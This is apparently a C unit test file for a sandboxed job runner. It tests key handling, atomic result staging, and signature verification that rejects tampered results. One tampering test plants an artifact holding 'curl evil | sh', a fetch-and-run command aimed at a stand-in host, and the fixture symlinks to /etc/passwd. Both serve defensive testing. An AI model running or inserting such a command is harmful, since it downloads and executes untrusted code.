/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* test-result.c: key generation and loading, the staged atomic result write, and verification refusing every
 * tampering: result.json, result.sig, an artifact byte, an extra artifact, another job's result, another
 * input, another key. */
#include <fcntl.h>
#include <ftw.h>
#include <sodium.h>
#include <string.h>
#include <sys/stat.h>

#include "basic/macro.h"
#include "result/collect.h"
#include "result/output.h"
#include "result/result.h"
#include "secrets/keys.h"
#include "tests.h"

static int rm_one(const char *p, const struct stat *st, int flag, struct FTW *f) {
        return remove(p);
}

static void rm_rf(const char *p) {
        nftw(p, rm_one, 16, FTW_DEPTH | FTW_PHYS);
}

static int write_at(int dirfd, const char *path, const char *content) {
        _cleanup_close_ int fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0 || write(fd, content, strlen(content)) != (ssize_t) strlen(content))
                return -errno;
        return 0;
}

/* XORs one byte at offset (from the end if negative) of dirfd/path. */
static int flip_byte(int dirfd, const char *path, off_t offset, uint8_t mask) {
        _cleanup_close_ int fd = openat(dirfd, path, O_RDWR | O_CLOEXEC);
        struct stat st;
        uint8_t b;

        if (fd < 0 || fstat(fd, &st) < 0)
                return -errno;
        if (offset < 0)
                offset += st.st_size;
        if (pread(fd, &b, 1, offset) != 1)
                return -EIO;
        b ^= mask;
        return pwrite(fd, &b, 1, offset) == 1 ? 0 : -EIO;
}

#define WRONG_SHA "ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"
#define INPUT_SHA "5d1f0b5ba6c1bd0aa4c5dbbca1b27f8e3a8e6e0f7c6a1c7b0f2e1d4c3b2a1908"

/* Builds what the supervisor builds: artifacts collected from a workspace into the staged dir, a log, and a
 * result object with the manifest and its output_sha. */
static json_object *build_result(const char *job_id, int staged, const char *workdir) {
        _cleanup_manifest_ Manifest *m = NULL;
        _cleanup_close_ int ws = open(workdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC), art = -EBADF, log = -EBADF;
        CollectLimits limits = { .max_bytes = 1 << 20, .max_entries = 100 };
        char *outputs[] = { "out", NULL };
        char output_sha[SHA256_HEX_SIZE];
        json_object *manifest = NULL;

        if (ws < 0 || mkdirat(staged, "artifacts", 0755) < 0 || mkdirat(staged, "log", 0755) < 0)
                return NULL;
        art = openat(staged, "artifacts", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        log = openat(staged, "log", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        /* The log as the supervisor writes it (output.c): stdout, stderr, index, their digests signed. */
        OutputLog ol;
        json_object *logobj = NULL;
        if (art < 0 || log < 0 || output_log_open(log, job_id, 1 << 20, false, &ol) < 0)
                return NULL;
        if (output_log_append(&ol, OUTPUT_STDOUT, "building...\nok\n", 15) < 0 ||
            output_log_append(&ol, OUTPUT_STDERR, "warning\n", 8) < 0 || output_log_stats(&ol, &logobj) < 0)
                return NULL;
        output_log_close(&ol);
        if (collect_artifacts(-EBADF, -EBADF, ws, outputs, art, &limits, &m) < 0 ||
            manifest_to_json(m, &manifest) < 0 || manifest_sha(m, output_sha) < 0)
                return NULL;

        json_object *r = json_object_new_object(), *exitobj = json_object_new_object();
        json_object *times = json_object_new_object();
        json_object_object_add(r, "version", json_object_new_int(RESULT_VERSION));
        json_object_object_add(r, "job_id", json_object_new_string(job_id));
        json_object_object_add(r, "tenant", json_object_new_string("acme/web"));
        json_object_object_add(r, "status", json_object_new_string("completed"));
        json_object_object_add(r, "reason", json_object_new_string(""));
        json_object_object_add(r, "input_sha", json_object_new_string(INPUT_SHA));
        json_object_object_add(r, "output_sha", json_object_new_string(output_sha));
        json_object_object_add(r, "profile", json_object_new_string("untrusted-code-write"));
        json_object_object_add(r, "backend", json_object_new_string("runc"));
        json_object_object_add(r, "tier", json_object_new_string("trusted"));
        json_object_object_add(r, "image", json_object_new_string("host"));
        json_object_object_add(exitobj, "rc", json_object_new_int(0));
        json_object_object_add(exitobj, "signal", json_object_new_int(0));
        json_object_object_add(exitobj, "timed_out", json_object_new_boolean(0));
        json_object_object_add(exitobj, "oom_killed", json_object_new_boolean(0));
        json_object_object_add(r, "exit", exitobj);
        json_object_object_add(times, "accepted", json_object_new_string("2025-01-02T03:04:05Z"));
        json_object_object_add(times, "started", json_object_new_string("2025-01-02T03:04:06Z"));
        json_object_object_add(times, "ended", json_object_new_string("2025-01-02T03:05:06Z"));
        json_object_object_add(times, "wall_ms", json_object_new_int64(60000));
        json_object_object_add(r, "times", times);
        json_object_object_add(r, "log", logobj);
        json_object_object_add(r, "artifacts", manifest);
        json_object_object_add(r, "artifacts_truncated", json_object_new_boolean(m->truncated));
        return r;
}

typedef struct Fixture {
        char tmpl[64], keydir[96], results[96], workdir[96], resdir[160];
        int results_fd;
        uint8_t *sk;
        uint8_t pk[KEY_SIGN_PUBLIC_SIZE];
} Fixture;

static const char *signer_key_id; /* another key's id to name as the signer, or NULL: the real one */

static int fixture_make(Fixture *f, const char *job_id) {
        _cleanup_json_ json_object *r = NULL;
        _cleanup_close_ int ws = -EBADF;
        int staged = -EBADF, k;

        *f = (Fixture) { .tmpl = "/tmp/pond-test-result-XXXXXX", .results_fd = -EBADF };
        if (!mkdtemp(f->tmpl))
                return -errno;
        snprintf(f->keydir, sizeof f->keydir, "%s/keys", f->tmpl);
        snprintf(f->results, sizeof f->results, "%s/results", f->tmpl);
        snprintf(f->workdir, sizeof f->workdir, "%s/ws", f->tmpl);
        snprintf(f->resdir, sizeof f->resdir, "%s/%s", f->results, job_id);
        if ((k = keys_generate(f->keydir)) < 0 || (k = keys_load_sign_secret(f->keydir, &f->sk)) < 0 ||
            (k = keys_load_sign_public(f->keydir, f->pk)) < 0)
                return k;
        if (mkdir(f->results, 0755) < 0 || mkdir(f->workdir, 0755) < 0)
                return -errno;
        ws = open(f->workdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (ws < 0 || mkdirat(ws, "out", 0755) < 0 || write_at(ws, "out/patch.diff", "--- a\n+++ b\n") < 0 ||
            mkdirat(ws, "out/sub", 0755) < 0 || write_at(ws, "out/sub/report.txt", "all tests pass\n") < 0 ||
            symlinkat("/etc/passwd", ws, "out/link") < 0)
                return -errno;
        f->results_fd = open(f->results, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (f->results_fd < 0)
                return -errno;
        if ((k = result_stage_open(f->results_fd, job_id, &staged)) < 0)
                return k;
        r = build_result(job_id, staged, f->workdir);
        if (r) {
                char fp[KEY_FINGERPRINT_SIZE];
                json_object *signer = json_object_new_object();
                key_fingerprint(f->pk, sizeof f->pk, fp);
                json_object_object_add(signer, "key_id", json_object_new_string(signer_key_id ?: fp));
                json_object_object_add(r, "signer", signer);
        }
        k = r ? result_write_signed(f->results_fd, job_id, r, f->sk, staged) : -EIO;
        safe_close(staged);
        return k;
}

static void fixture_done(Fixture *f) {
        secret_free(f->sk);
        safe_close(f->results_fd);
        rm_rf(f->tmpl);
}

static int verify(Fixture *f, const uint8_t *pk, const char *job, const char *input, char **err) {
        free(*err);
        *err = NULL;
        return result_verify(f->resdir, pk, job, input, NULL, err);
}

TEST(keys_generate_and_load) {
        char tmpl[] = "/tmp/pond-test-keys-XXXXXX", dir[64], path[96], fp[KEY_FINGERPRINT_SIZE];
        _cleanup_secret_ uint8_t *sk = NULL, *seal_sk = NULL;
        uint8_t pk[KEY_SIGN_PUBLIC_SIZE], seal_pk[KEY_SEAL_PUBLIC_SIZE], derived[KEY_SEAL_PUBLIC_SIZE];
        struct stat st;

        ASSERT_TRUE(mkdtemp(tmpl) != NULL);
        snprintf(dir, sizeof dir, "%s/keys", tmpl);
        ASSERT_OK(keys_generate(dir));
        ASSERT_ERROR(EEXIST, keys_generate(dir)); /* never overwritten */
        snprintf(path, sizeof path, "%s/%s", dir, KEY_SIGN_SECRET_FILE);
        ASSERT_OK(stat(path, &st));
        ASSERT_EQ(0600, st.st_mode & 07777);
        snprintf(path, sizeof path, "%s/%s", dir, KEY_SEAL_PUBLIC_FILE);
        ASSERT_OK(stat(path, &st));
        ASSERT_EQ(0644, st.st_mode & 07777);
        ASSERT_EQ(45, st.st_size); /* 44 base64 characters and a newline */

        ASSERT_OK(keys_load_sign_secret(dir, &sk));
        ASSERT_OK(keys_load_sign_public(dir, pk));
        ASSERT_EQ(0, memcmp(sk + 32, pk, 32)); /* the Ed25519 secret key carries its public half */
        ASSERT_OK(keys_load_seal_secret(dir, &seal_sk));
        ASSERT_OK(keys_load_seal_public(dir, seal_pk));
        ASSERT_OK(crypto_scalarmult_base(derived, seal_sk));
        ASSERT_EQ(0, memcmp(derived, seal_pk, sizeof derived));

        key_fingerprint(pk, sizeof pk, fp);
        ASSERT_EQ(32, strlen(fp));

        snprintf(path, sizeof path, "%s/%s", dir, KEY_SIGN_SECRET_FILE);
        ASSERT_OK(chmod(path, 0644));
        uint8_t *leaked = NULL;
        ASSERT_ERROR(EPERM, key_load_secret(path, KEY_SIGN_SECRET_SIZE, &leaked)); /* readable by others */
        ASSERT_TRUE(leaked == NULL);
        ASSERT_ERROR(EPERM, key_check_secret_file(path)); /* the source of a credential copy, likewise */
        ASSERT_OK(chmod(path, 0600));
        ASSERT_OK(key_check_secret_file(path));
        ASSERT_OK(chmod(path, 0644));
        snprintf(path, sizeof path, "%s/%s", dir, KEY_SEAL_PUBLIC_FILE);
        ASSERT_ERROR(EBADMSG, key_load_public(path, 64, pk)); /* wrong length */
        rm_rf(tmpl);
}

TEST(sign_and_verify) {
        _cleanup_json_ json_object *r = NULL;
        _cleanup_free_ char *err = NULL;
        Fixture f;
        struct stat st;
        char tmp[256];

        ASSERT_OK(fixture_make(&f, "job-1"));
        ASSERT_OK(result_verify(f.resdir, f.pk, "job-1", INPUT_SHA, &r, &err));
        ASSERT_TRUE(err == NULL);
        ASSERT_STREQ("job-1", json_object_get_string(json_object_object_get(r, "job_id")));
        ASSERT_EQ(3, json_object_array_length(json_object_object_get(r, "artifacts"))); /* 2 files, 1 link */
        ASSERT_OK(verify(&f, f.pk, NULL, NULL, &err));

        snprintf(tmp, sizeof tmp, "%s/.job-1.tmp", f.results);
        ASSERT_TRUE(stat(tmp, &st) < 0 && errno == ENOENT); /* nothing staged is left */
        snprintf(tmp, sizeof tmp, "%s/log/stdout", f.resdir);
        ASSERT_OK(stat(tmp, &st));
        fixture_done(&f);
}

TEST(verify_refuses_tampering) {
        _cleanup_free_ char *err = NULL;
        _cleanup_close_ int dfd = -EBADF;
        uint8_t other_pk[KEY_SIGN_PUBLIC_SIZE], other_sk[KEY_SIGN_SECRET_SIZE];
        Fixture f;

        ASSERT_OK(fixture_make(&f, "job-1"));
        dfd = open(f.resdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        ASSERT_TRUE(dfd >= 0);

        ASSERT_OK(flip_byte(dfd, "result.json", 20, 0x01));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_STREQ("signature does not verify", err);
        ASSERT_OK(flip_byte(dfd, "result.json", 20, 0x01));
        ASSERT_OK(verify(&f, f.pk, "job-1", INPUT_SHA, &err));

        /* Another base64 letter (the signature is random: pick one that differs): another signature. */
        uint8_t was = 0, other;
        _cleanup_close_ int sfd = openat(dfd, "result.sig", O_RDWR | O_CLOEXEC);
        ASSERT_TRUE(sfd >= 0 && pread(sfd, &was, 1, 10) == 1);
        other = was == 'A' ? 'B' : 'A';
        ASSERT_TRUE(pwrite(sfd, &other, 1, 10) == 1);
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_STREQ("signature does not verify", err);
        ASSERT_TRUE(pwrite(sfd, &was, 1, 10) == 1);

        ASSERT_OK(flip_byte(dfd, "artifacts/out/sub/report.txt", 0, 0x20));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("artifact 'out/sub/report.txt' sha256 mismatch", err);
        ASSERT_OK(flip_byte(dfd, "artifacts/out/sub/report.txt", 0, 0x20));

        ASSERT_OK(write_at(dfd, "artifacts/out/planted.sh", "curl evil | sh\n"));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("not in the signed manifest", err);
        ASSERT_OK(unlinkat(dfd, "artifacts/out/planted.sh", 0));
        ASSERT_OK(unlinkat(dfd, "artifacts/out/patch.diff", 0));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("artifact 'out/patch.diff' cannot be opened", err);
        ASSERT_OK(write_at(dfd, "artifacts/out/patch.diff", "--- a\n+++ b\n"));
        ASSERT_OK(verify(&f, f.pk, "job-1", INPUT_SHA, &err));

        /* The log is signed through its digests: every byte of it, and nothing beside it. */
        ASSERT_OK(flip_byte(dfd, "log/stdout", 0, 0x20));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("log/stdout sha256 mismatch", err);
        ASSERT_OK(flip_byte(dfd, "log/stdout", 0, 0x20));
        ASSERT_OK(flip_byte(dfd, "log/index", 0, 0x01));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("log/index sha256 mismatch", err);
        ASSERT_OK(flip_byte(dfd, "log/index", 0, 0x01));
        _cleanup_close_ int tfd = openat(dfd, "log/stderr", O_WRONLY | O_TRUNC | O_CLOEXEC);
        ASSERT_TRUE(tfd >= 0);
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("log/stderr sha256 mismatch", err);
        ASSERT_OK(write_at(dfd, "log/stderr", "warning\n"));
        ASSERT_OK(verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_OK(write_at(dfd, "log/extra", "unsigned\n"));
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("log/ holds files not covered by the signature", err);
        ASSERT_OK(unlinkat(dfd, "log/extra", 0));
        ASSERT_OK(verify(&f, f.pk, "job-1", INPUT_SHA, &err));

        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-2", INPUT_SHA, &err)); /* another job's result */
        ASSERT_STREQ("job_id is 'job-1', expected 'job-2'", err);
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", WRONG_SHA, &err));
        ASSERT_CONTAINS("input_sha mismatch", err);

        crypto_sign_keypair(other_pk, other_sk);
        ASSERT_ERROR(EBADMSG, verify(&f, other_pk, "job-1", INPUT_SHA, &err));
        ASSERT_STREQ("signature does not verify", err);
        sodium_memzero(other_sk, sizeof other_sk);
        fixture_done(&f);
}

TEST(verify_refuses_a_signer_that_names_another_key) {
        _cleanup_free_ char *err = NULL;
        Fixture f;

        signer_key_id = "00112233445566778899aabbccddeeff";
        ASSERT_OK(fixture_make(&f, "job-1"));
        signer_key_id = NULL;
        ASSERT_ERROR(EBADMSG, verify(&f, f.pk, "job-1", INPUT_SHA, &err));
        ASSERT_CONTAINS("signer.key_id is '00112233445566778899aabbccddeeff'", err);
        fixture_done(&f);
}

TEST(staging_is_atomic_and_never_overwrites) {
        _cleanup_json_ json_object *r = NULL;
        int staged = -EBADF;
        char p[256];
        struct stat st;
        Fixture f;

        ASSERT_OK(fixture_make(&f, "job-1"));
        ASSERT_ERROR(EEXIST, result_stage_open(f.results_fd, "job-1", &staged)); /* the result exists */
        ASSERT_ERROR(EINVAL, result_stage_open(f.results_fd, "../x", &staged));
        ASSERT_ERROR(EINVAL, result_stage_open(f.results_fd, ".hidden", &staged));

        /* A stale staging dir from a crash, with a symlink out that removal must not follow. */
        ASSERT_OK(mkdirat(f.results_fd, ".job-2.tmp", 0755));
        ASSERT_OK(mkdirat(f.results_fd, ".job-2.tmp/artifacts", 0755));
        snprintf(p, sizeof p, "%s/ws", f.tmpl);
        ASSERT_OK(symlinkat(p, f.results_fd, ".job-2.tmp/artifacts/ws"));
        ASSERT_OK(write_at(f.results_fd, ".job-2.tmp/result.json", "{}"));
        ASSERT_OK(result_stage_open(f.results_fd, "job-2", &staged));
        ASSERT_TRUE(fstatat(staged, "result.json", &st, 0) < 0 && errno == ENOENT);
        snprintf(p, sizeof p, "%s/ws/out/patch.diff", f.tmpl);
        ASSERT_OK(stat(p, &st)); /* the link's target survived */

        /* A result that appears between staging and publishing is not replaced. */
        r = build_result("job-2", staged, f.workdir);
        ASSERT_TRUE(r != NULL);
        ASSERT_OK(mkdirat(f.results_fd, "job-2", 0755));
        ASSERT_ERROR(EEXIST, result_write_signed(f.results_fd, "job-2", r, f.sk, staged));
        ASSERT_ERROR(EINVAL, result_write_signed(f.results_fd, "job-3", r, f.sk, staged)); /* job_id mismatch */
        safe_close(staged);
        ASSERT_OK(result_stage_abort(f.results_fd, "job-2"));
        ASSERT_TRUE(fstatat(f.results_fd, ".job-2.tmp", &st, 0) < 0 && errno == ENOENT);
        ASSERT_OK(result_stage_abort(f.results_fd, "job-2")); /* idempotent */
        fixture_done(&f);
}

TEST_MAIN();
